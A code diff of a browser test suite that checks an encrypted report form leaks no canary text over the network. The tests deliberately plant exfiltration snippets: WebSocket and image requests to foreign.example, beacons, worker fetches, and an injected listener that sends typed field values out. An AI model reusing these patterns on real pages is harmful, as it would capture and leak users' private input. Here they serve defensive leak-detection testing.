@@ -1,5 +1,5 @@
 import type { Page } from 'puppeteer-core';
-import { afterAll, beforeAll, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { alertAnswers, fullAnswers } from '../../report/answers.ts';
 import { fileSchema } from '../../report/evidence.ts';
 import { type BrowserKind, engineOf, type Started, startBrowser } from '../journeys/browser.ts';
@@ -96,14 +96,16 @@ export function noCanaryLeaves(kind: BrowserKind): void {
   let proxy: RecordingProxy;
   let started: Started;
 
-  beforeAll(async () => {
-    proxy = new RecordingProxy(site.origin);
-    started = await startBrowser(kind, { proxyPort: await proxy.listen(), isWhole: true });
-  });
-  afterAll(async () => {
-    await started.end();
-    await proxy.close();
-  });
+  function startAll(isWhole: boolean): void {
+    beforeAll(async () => {
+      proxy = new RecordingProxy(site.origin);
+      started = await startBrowser(kind, { proxyPort: await proxy.listen(), isWhole });
+    });
+    afterAll(async () => {
+      await started.end();
+      await proxy.close();
+    });
+  }
 
   /** Opens the form under a fate, fills it, presses everything, and gives the canaries that left. */
   async function leaksUnder(
@@ -138,144 +140,154 @@ export function noCanaryLeaves(kind: BrowserKind): void {
     ];
   }
 
-  it('catches a canary by each of six ways out', async () => {
-    const word = canaries[0];
-    const ways: readonly [string, string][] = [
-      [
-        'worker fetch',
-        `new Worker(URL.createObjectURL(new Blob(["fetch('${site.origin}/w', { method: 'POST', body: '${word}' })"])))`,
-      ],
-      ['beacon', `navigator.sendBeacon('/b', '${word}')`],
-      ['address', `fetch('/u?${word}')`],
-      ['header', `fetch('/h', { headers: { 'X-Any': '${word}' } })`],
-      ['WebSocket', `new WebSocket('ws://foreign.example/${word}')`],
-      ['foreign image', `new Image().src = 'http://foreign.example/${word}.png'`],
-    ];
-    for (const [way, code] of ways) {
-      proxy.begin((path) => (path === '/control' ? { body: `<!doctype html><script>${code}</script>` } : 'pass'));
-      const page = await started.browser.newPage();
-      await page.goto(`${site.origin}/control`);
-      const until = Date.now() + 10_000;
-      let found: string[] = [];
-      while (found.length === 0 && Date.now() < until) {
-        found = findCanary(proxy.recorded(), word);
-        await new Promise((resolve) => setTimeout(resolve, 50));
+  // All that a browser does by itself, too.
+  describe('where everything works', () => {
+    startAll(true);
+
+    it('catches a canary by each of six ways out', async () => {
+      const word = canaries[0];
+      const ways: readonly [string, string][] = [
+        [
+          'worker fetch',
+          `new Worker(URL.createObjectURL(new Blob(["fetch('${site.origin}/w', { method: 'POST', body: '${word}' })"])))`,
+        ],
+        ['beacon', `navigator.sendBeacon('/b', '${word}')`],
+        ['address', `fetch('/u?${word}')`],
+        ['header', `fetch('/h', { headers: { 'X-Any': '${word}' } })`],
+        ['WebSocket', `new WebSocket('ws://foreign.example/${word}')`],
+        ['foreign image', `new Image().src = 'http://foreign.example/${word}.png'`],
+      ];
+      for (const [way, code] of ways) {
+        proxy.begin((path) => (path === '/control' ? { body: `<!doctype html><script>${code}</script>` } : 'pass'));
+        const page = await started.browser.newPage();
+        await page.goto(`${site.origin}/control`);
+        const until = Date.now() + 10_000;
+        let found: string[] = [];
+        while (found.length === 0 && Date.now() < until) {
+          found = findCanary(proxy.recorded(), word);
+          await new Promise((resolve) => setTimeout(resolve, 50));
+        }
+        expect([way, found.length > 0]).toEqual([way, true]);
+        await page.close();
       }
-      expect([way, found.length > 0]).toEqual([way, true]);
-      await page.close();
-    }
-  });
-
-  it.each([
-    ['/en/report', fullAnswers],
-    ['/en/alert', alertAnswers],
-  ] as const)('sends every field of %s without a readable word', async (path, schema) => {
-    const leaked = await leaksUnder(
-      () => 'pass',
-      async (page, filled) => {
-        expect(await page.$eval('html', (html) => html.dataset.engine)).toBe(engineOf[kind]);
-        const fields = filled.map((name) =>
-          name.replace(/\.\d+(?=\.)/g, '.*').replace(/\.(year|month|day|approx|asWritten)$/, ''),
-        );
-        for (const { field } of fieldsOf(schema)) expect(fields).toContain(field);
-        await send(page);
-        await page.waitForSelector('#issued:not([hidden])');
-        await pressEverything(page);
-      },
-      path,
-    );
-    expect(proxy.recorded().includes('/envelopes HTTP/1.1')).toBe(true);
-    expect(proxy.recorded().includes('age-encryption.org/v1')).toBe(true);
-    expect(leaked).toEqual([]);
-  });
-
-  it('sends files, their names and all that is said of them without a readable word', async () => {
-    const leaked = await leaksUnder(
-      () => 'pass',
-      async (page) => {
-        await send(page);
-        await page.waitForSelector('#evidence:not([hidden])');
-        const filled = await chooseCanaries(page);
-        const fields = filled.map((name) =>
-          name.replace(/^files\.\d+\./, '').replace(/\.(year|month|day|approx|asWritten)$/, ''),
-        );
-        for (const { field } of fieldsOf(fileSchema)) if (!told.test(field)) expect(fields).toContain(field);
-        await sendFiles(page);
-      },
-      '/en/alert',
-    );
-    for (const path of ['/envelopes HTTP/1.1', '/uploads HTTP/1.1', '/uploads/'])
-      expect([path, proxy.recorded().includes(path)]).toEqual([path, true]);
-    expect(leaked).toEqual([]);
-  });
-
-  it.each(failingFilesIn[kind])('leaks nothing of files with %s', async (_what, fatesOf) => {
-    const leaked = await leaksUnder(
-      fatesOf,
-      async (page) => {
-        await send(page);
-        await page.waitForSelector('#issued:not([hidden])');
-        await page.waitForSelector('#evidence:not([hidden])', { timeout: 2500 }).catch(() => {});
-        const isThere = await page.$eval('#evidence', (section) => section.checkVisibility());
-        if (isThere) await chooseCanaries(page);
-        await pressEverything(page);
-      },
-      '/en/alert',
-    );
-    expect(leaked).toEqual([]);
-  });
-
-  it.each(failingIn[kind])('leaks nothing with %s', async (_what, fatesOf) => {
-    expect(await leaksUnder(fatesOf)).toEqual([]);
-  });
-
-  it('seals with the light engine where WebAssembly does not start, and leaks nothing', async () => {
-    const leaked = await leaksUnder(withoutWasm, async (page) => {
-      expect(await page.$eval('html', (html) => html.dataset.engine)).toBe('light');
-      await send(page);
-      await page.waitForSelector('#issued:not([hidden])');
     });
-    expect(leaked).toEqual([]);
+
+    it.each([
+      ['/en/report', fullAnswers],
+      ['/en/alert', alertAnswers],
+    ] as const)('sends every field of %s without a readable word', async (path, schema) => {
+      const leaked = await leaksUnder(
+        () => 'pass',
+        async (page, filled) => {
+          expect(await page.$eval('html', (html) => html.dataset.engine)).toBe(engineOf[kind]);
+          const fields = filled.map((name) =>
+            name.replace(/\.\d+(?=\.)/g, '.*').replace(/\.(year|month|day|approx|asWritten)$/, ''),
+          );
+          for (const { field } of fieldsOf(schema)) expect(fields).toContain(field);
+          await send(page);
+          await page.waitForSelector('#issued:not([hidden])');
+          await pressEverything(page);
+        },
+        path,
+      );
+      expect(proxy.recorded().includes('/envelopes HTTP/1.1')).toBe(true);
+      expect(proxy.recorded().includes('age-encryption.org/v1')).toBe(true);
+      expect(leaked).toEqual([]);
+    });
+
+    it('sends files, their names and all that is said of them without a readable word', async () => {
+      const leaked = await leaksUnder(
+        () => 'pass',
+        async (page) => {
+          await send(page);
+          await page.waitForSelector('#evidence:not([hidden])');
+          const filled = await chooseCanaries(page);
+          const fields = filled.map((name) =>
+            name.replace(/^files\.\d+\./, '').replace(/\.(year|month|day|approx|asWritten)$/, ''),
+          );
+          for (const { field } of fieldsOf(fileSchema)) if (!told.test(field)) expect(fields).toContain(field);
+          await sendFiles(page);
+        },
+        '/en/alert',
+      );
+      for (const path of ['/envelopes HTTP/1.1', '/uploads HTTP/1.1', '/uploads/'])
+        expect([path, proxy.recorded().includes(path)]).toEqual([path, true]);
+      expect(leaked).toEqual([]);
+    });
   });
 
-  const noScript = (path: string): Fate => (/\/assets\/report-/.test(path) ? 'abort' : 'pass');
-  const page =
-    (change: (html: string) => string) =>
-    (path: string): Fate =>
-      path === '/en/report' ? { change } : noScript(path);
-  const slot = '<div id="send"></div>';
-  const dialog = '<form id="report" method="dialog"';
-  /** The page's HTML with a submit button where the script puts its own. */
-  const withButton = (html: string, attributes = ''): string =>
-    html.replace(slot, `<div id="send"><button type="submit"${attributes}>Send</button></div>`);
+  // What the page does then, in any window.
+  describe('where something fails', () => {
+    startAll(false);
 
-  it('has what the changed pages below change', async () => {
-    const html = await (await fetch(`${site.origin}/en/report`)).text();
-    expect(html.split(slot)).toHaveLength(2);
-    expect(html.split(dialog)).toHaveLength(2);
-  });
+    it.each(failingFilesIn[kind])('leaks nothing of files with %s', async (_what, fatesOf) => {
+      const leaked = await leaksUnder(
+        fatesOf,
+        async (page) => {
+          await send(page);
+          await page.waitForSelector('#issued:not([hidden])');
+          await page.waitForSelector('#evidence:not([hidden])', { timeout: 2500 }).catch(() => {});
+          const isThere = await page.$eval('#evidence', (section) => section.checkVisibility());
+          if (isThere) await chooseCanaries(page);
+          await pressEverything(page);
+        },
+        '/en/alert',
+      );
+      expect(leaked).toEqual([]);
+    });
 
-  it('leaks nothing with a button that submits, since its form is a dialog', async () => {
-    expect(await leaksUnder(page((html) => withButton(html)))).toEqual([]);
-  });
+    it.each(failingIn[kind])('leaks nothing with %s', async (_what, fatesOf) => {
+      expect(await leaksUnder(fatesOf)).toEqual([]);
+    });
 
-  it.each([
-    ['its button posts', page((html) => withButton(html, ' formmethod="post" formaction="/en/report"'))],
-    [
-      'its button submits and its form is no dialog',
-      page((html) => withButton(html).replace(dialog, '<form id="report"')),
-    ],
-    [
-      'a field is copied into an address',
+    it('seals with the light engine where WebAssembly does not start, and leaks nothing', async () => {
+      const leaked = await leaksUnder(withoutWasm, async (page) => {
+        expect(await page.$eval('html', (html) => html.dataset.engine)).toBe('light');
+        await send(page);
+        await page.waitForSelector('#issued:not([hidden])');
+      });
+      expect(leaked).toEqual([]);
+    });
+
+    const noScript = (path: string): Fate => (/\/assets\/report-/.test(path) ? 'abort' : 'pass');
+    const page =
+      (change: (html: string) => string) =>
       (path: string): Fate =>
-        /\/assets\/report-/.test(path)
-          ? {
-              change: (code) =>
-                `${code};document.addEventListener('input',(e)=>fetch('/assets/x?'+encodeURIComponent(e.target.value)))`,
-            }
-          : 'pass',
-    ],
-  ])('finds the leak of a page that is changed so that %s', async (_what, fatesOf) => {
-    expect(await leaksUnder(fatesOf)).not.toEqual([]);
+        path === '/en/report' ? { change } : noScript(path);
+    const slot = '<div id="send"></div>';
+    const dialog = '<form id="report" method="dialog"';
+    /** The page's HTML with a submit button where the script puts its own. */
+    const withButton = (html: string, attributes = ''): string =>
+      html.replace(slot, `<div id="send"><button type="submit"${attributes}>Send</button></div>`);
+
+    it('has what the changed pages below change', async () => {
+      const html = await (await fetch(`${site.origin}/en/report`)).text();
+      expect(html.split(slot)).toHaveLength(2);
+      expect(html.split(dialog)).toHaveLength(2);
+    });
+
+    it('leaks nothing with a button that submits, since its form is a dialog', async () => {
+      expect(await leaksUnder(page((html) => withButton(html)))).toEqual([]);
+    });
+
+    it.each([
+      ['its button posts', page((html) => withButton(html, ' formmethod="post" formaction="/en/report"'))],
+      [
+        'its button submits and its form is no dialog',
+        page((html) => withButton(html).replace(dialog, '<form id="report"')),
+      ],
+      [
+        'a field is copied into an address',
+        (path: string): Fate =>
+          /\/assets\/report-/.test(path)
+            ? {
+                change: (code) =>
+                  `${code};document.addEventListener('input',(e)=>fetch('/assets/x?'+encodeURIComponent(e.target.value)))`,
+              }
+            : 'pass',
+      ],
+    ])('finds the leak of a page that is changed so that %s', async (_what, fatesOf) => {
+      expect(await leaksUnder(fatesOf)).not.toEqual([]);
+    });
   });
 }
